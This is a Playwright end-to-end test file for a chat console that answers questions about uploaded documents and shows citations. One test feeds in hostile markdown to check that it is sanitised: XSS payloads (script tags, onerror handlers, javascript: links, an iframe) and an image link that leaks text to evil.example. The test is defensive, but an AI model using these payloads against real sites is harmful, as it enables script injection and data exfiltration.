import { describe, expect, test } from 'vitest'
import type { Position } from '../../src/core/artifact.ts'
import { pageWording } from '../../src/wording/page.ts'
import { findBrowser, noBrowser } from '../browser.ts'
import { citation } from '../fakes/source.ts'
import { receipt } from '../servers/console-api.ts'
import { citations, hash, pictureOf, usePage } from './console-page-setup.ts'

const here = findBrowser() !== null

describe.skipIf(!here)(here ? 'the console page' : `the console page (${noBrowser})`, () => {
  const open = usePage()

  test('a question is sent, its answer streams in, and both survive a reload', async () => {
    const { page, api, ask, input } = await open()
    const turn = await ask('What is a **lease**?')
    expect(api.sent).toMatchObject([{ text: 'What is a **lease**?', uploads: [] }])
    turn.status('Reading lease.pdf, page 3 of 12')
    await page.getByRole('progressbar', { name: 'Reading lease.pdf, page 3 of 12' }).waitFor()
    turn.status('Answering', 'answering')
    turn.write('A lease is **a hold')
    await page.locator('.reply strong', { hasText: 'a hold' }).waitFor()
    turn.write(' with an end**.\n\n```ts\nconst lease = 1\n```\n')
    turn.finish()
    await page.getByRole('button', { name: pageWording.answer.regenerate.label }).waitFor()
    await page.locator('.hljs-keyword', { hasText: 'const' }).waitFor()
    expect(await page.locator('.status-line').count()).toBe(0)
    expect(await page.locator('.code-block figcaption span').first().textContent()).toBe('ts')
    expect(await input.evaluate((element) => element === document.activeElement)).toBe(true)

    const address = page.url()
    await page.reload()
    await page.getByText('with an end').waitFor()
    expect(page.url()).toBe(address)
    expect(await page.locator('.bubble').textContent()).toBe('What is a **lease**?')
    await page.getByRole('link', { name: /What is a/ }).waitFor()
  })

  test('Stop and Esc stop a streaming answer, which says so', async () => {
    const { page, ask } = await open()
    const first = await ask('Count to a million')
    first.write('1, 2, 3')
    await page.getByText('1, 2, 3').waitFor()
    await page.getByRole('button', { name: pageWording.composer.stop }).click()
    await first.stopped
    await page.getByText(pageWording.answer.stopped, { exact: true }).waitFor()
    const second = await ask('Again')
    await page.getByRole('button', { name: pageWording.composer.stop }).waitFor()
    await page.keyboard.press('Escape')
    await second.stopped
    await page.getByRole('button', { name: pageWording.composer.send }).waitFor()
  })

  test('the last answer is regenerated in place, and a failed one offers Try again', async () => {
    const { page, api, ask } = await open()
    const first = await ask('Say a number')
    first.write('Seven')
    first.finish()
    await page.getByRole('button', { name: pageWording.answer.regenerate.label }).click()
    const second = await api.nextTurn()
    second.finish({ state: 'failed', text: 'The model did not answer in time. Try again, or choose another one.' })
    const failure = page.getByRole('alert')
    await failure.getByText('did not answer in time').waitFor()
    expect(await page.getByText('Seven').count()).toBe(0)
    await failure.getByRole('button', { name: pageWording.message.tryAgain }).click()
    const third = await api.nextTurn()
    third.write('Eight')
    third.finish()
    await page.locator('.reply').getByText('Eight').waitFor()
    expect(await page.locator('.reply').count()).toBe(1)
  })

  test('a citation opens its page with the passage highlighted, and Esc restores the focus', async () => {
    const { page, ask } = await open()
    const turn = await ask('How was the quarter?')
    turn.write('Revenue grew [1], and a`[2]` stays code. Not known: [7].')
    const file = { attachmentId: 'a', name: 'report.pdf', outcome: 'read' as const, summary: '48 pages read' }
    turn.finish({
      citations,
      receipt: receipt({ attachments: [{ ...file, problems: [], contentHash: hash, pages: 48 }] }),
    })
    const chip = page.getByRole('button', { name: pageWording.source.label(1, 'report.pdf', 'p. 12') })
    await chip.waitFor()
    expect(await page.locator('.markdown code').textContent()).toBe('[2]')
    await page.getByText('Not known: [7].').waitFor()

    await chip.click()
    const panel = page.getByRole('dialog', { name: 'report.pdf' })
    await panel.getByText(pageWording.page.number(12, 48)).waitFor()
    await panel.getByText('Revenue grew by 14 percent').waitFor()
    await panel.locator('.page-mark').first().waitFor()
    expect(await panel.locator('.page-mark').count()).toBe(3)
    const next = pictureOf(page, 13)
    await panel.getByRole('button', { name: pageWording.page.next }).click()
    await next
    await panel.getByRole('img', { name: pageWording.page.pictureOf(13, 'report.pdf') }).waitFor()
    expect(await panel.locator('.page-mark').count()).toBe(0)
    await panel.getByRole('button', { name: pageWording.page.backTo(12) }).click()
    await panel.locator('.page-mark').first().waitFor()
    const before = (await panel.locator('.page').boundingBox())?.width ?? 0
    await panel.getByRole('button', { name: pageWording.page.fullSize }).click()
    await expect.poll(async () => (await panel.locator('.page').boundingBox())?.width).toBeGreaterThan(before)
    await page.keyboard.press('Escape')
    await panel.waitFor({ state: 'detached' })
    await expect.poll(() => chip.evaluate((element) => element === document.activeElement)).toBe(true)

    await page.getByRole('button', { name: /server\.log/ }).click()
    await page.locator('.text-line.cited').first().waitFor()
    expect(await page.locator('.text-line.cited .line-number').allTextContents()).toEqual(['137', '138', '139'])
  })

  test('a citation without a page picture opens its text with the passage highlighted', async () => {
    const { page, ask, api } = await open()
    const turn = await ask('What did they say?')
    turn.write('All of it [1][2][3][4].')
    const quote = 'The largest customer accounts for 22 percent of revenue, and its contract ends on 30 September.'
    const of = (n: number, title: string, at: Position) => citation(n, title, { contentHash: hash, at })
    turn.finish({
      citations: [
        of(1, 'call.ogg', { kind: 'time', fromMs: 60_000, toMs: 80_000 }),
        of(2, 'talk.pptx', { kind: 'slide', slide: 3 }),
        { ...of(3, 'all.zip', { kind: 'page', page: 2, inner: 'a & b.pdf' }), quote },
        { ...of(4, 'letter.docx', { kind: 'page', page: 1 }), quote },
      ],
      receipt: receipt(),
    })
    const show = async (n: number) => {
      await page
        .locator('.source')
        .nth(n - 1)
        .click()
      await page.locator('.text-line.cited').first().waitFor()
      const cited = page.locator('.text-line.cited')
      return { labels: await cited.locator('.line-number').allTextContents(), count: await cited.count() }
    }
    expect(await show(1)).toEqual({ labels: ['0:50', '', '1:10', ''], count: 4 })
    await page.keyboard.press('Escape')
    await page.locator('.source').nth(1).click()
    await page.locator('.cited-table .cited').first().waitFor()
    const head = page.locator('.cited-table thead th')
    expect(await head.allTextContents()).toEqual(['Region', 'Orders'])
    expect(await page.locator('.cited-table tbody td').allTextContents()).toEqual(['North', '12', 'South | West', '9'])
    await page.keyboard.press('Escape')
    expect(await show(3)).toEqual({ labels: [], count: 2 })
    await page.getByRole('img', { name: 'all.zip, a & b.pdf, p. 2' }).waitFor()
    expect(api.pictures).toEqual(['?from=2&to=2&kind=page&inner=a+%26+b.pdf&width=1000'])
    await page.keyboard.press('Escape')
    await page.route(/\/page\/1\?width=/, (route) => route.fulfill({ status: 415, body: '' }))
    expect(await show(4)).toEqual({ labels: [], count: 2 })
  })

  test('skipped files are shown immediately, and the receipt has the details', async () => {
    const { page, ask } = await open()
    const turn = await ask('Summarise')
    turn.write('Done.')
    const skipped = {
      attachmentId: 'b',
      name: 'film.mov',
      outcome: 'skipped' as const,
      summary: 'skipped: 312 MB is over the limit of 100 MB',
      problems: [],
    }
    turn.finish({
      receipt: receipt({
        attachments: [skipped],
        costNanoUsd: null,
        attempts: 2,
        notices: ['The answer was cut short.'],
      }),
    })
    await page.getByText('film.mov was not read: 312 MB is over the limit of 100 MB').waitFor()
    await page.getByText('The answer was cut short.').waitFor()
    await page.getByRole('button', { name: pageWording.receipt.label }).click()
    const card = page.getByRole('region', { name: pageWording.receipt.label })
    const text = (await card.textContent()) ?? ''
    for (const part of [
      'gpt-oss:20b',
      pageWording.receipt.noPrice,
      pageWording.receipt.inAndOut('1,840', '412'),
      pageWording.receipt.total('6.8 s'),
      `${pageWording.receipt.attempts}2`,
    ])
      expect(text).toContain(part)
  })

  test('Markdown of a hostile file stays text: no markup, no scripts, no external pictures', async () => {
    const { page, ask } = await open()
    const elsewhere: string[] = []
    page.on('request', (request) => {
      if (!request.url().startsWith('http://127.0.0.1')) elsewhere.push(request.url())
    })
    const turn = await ask('Read this')
    turn.write(
      [
        '<img src=x onerror="document.title=1"><script>document.title=2</script>',
        '[go](javascript:alert(1)) [data](data:text/html,x) [page](/console/threads)',
        '![secret](https://evil.example/p.png?q=words) [fine](https://example.org)',
        '<iframe src="https://evil.example"></iframe>',
      ].join('\n\n'),
    )
    turn.finish()
    const reply = page.locator('.reply')
    await reply.getByRole('link', { name: 'fine' }).waitFor()
    expect(await reply.locator('img, script, iframe').count()).toBe(0)
    expect(await reply.locator('a').evaluateAll((links) => links.map((link) => link.getAttribute('href')))).toEqual([
      'https://evil.example/p.png?q=words',
      'https://example.org',
    ])
    const fine = reply.getByRole('link', { name: 'fine' })
    expect(await fine.getAttribute('rel')).toBe('noopener noreferrer')
    expect(await fine.getAttribute('target')).toBe('_blank')
    await reply.getByText('<script>document.title=2</script>').waitFor()
    expect(elsewhere).toEqual([])
  })

  test('new text does not scroll the page while you read above, and one button jumps back down', async () => {
    const { page, ask } = await open()
    const turn = await ask('Write a lot')
    turn.write(Array.from({ length: 80 }, (_, index) => `Paragraph ${index}.\n\n`).join(''))
    await page.getByText('Paragraph 79.').waitFor()
    const list = page.getByRole('region', { name: pageWording.message.list })
    const left = () => list.evaluate((box) => Math.round(box.scrollHeight - box.clientHeight - box.scrollTop))
    await expect.poll(left).toBeLessThan(4)
    await list.hover()
    await page.mouse.wheel(0, -900)
    const jump = page.getByRole('button', { name: pageWording.message.jumpToLatest })
    await jump.waitFor()
    turn.write('The end.')
    await page.getByText('The end.').waitFor()
    expect(await left()).toBeGreaterThan(300)
    await jump.click()
    await expect.poll(left).toBeLessThan(4)
    await jump.waitFor({ state: 'detached' })
  })

  test('a new snapshot fills a gap in the text', async () => {
    const { page, api, ask } = await open()
    const turn = await ask('Tell')
    turn.write('One ')
    await page.getByText('One').waitFor()
    const id = await page.evaluate(() => location.pathname.slice(3))
    api.push(id, { type: 'text', messageId: 'unheard-of', offset: 900, text: 'lost' })
    turn.write('two three')
    await page.getByText('One two three').waitFor()
    await expect.poll(() => api.requests.filter((request) => request === 'GET /console/events').length).toBe(2)
  })
})
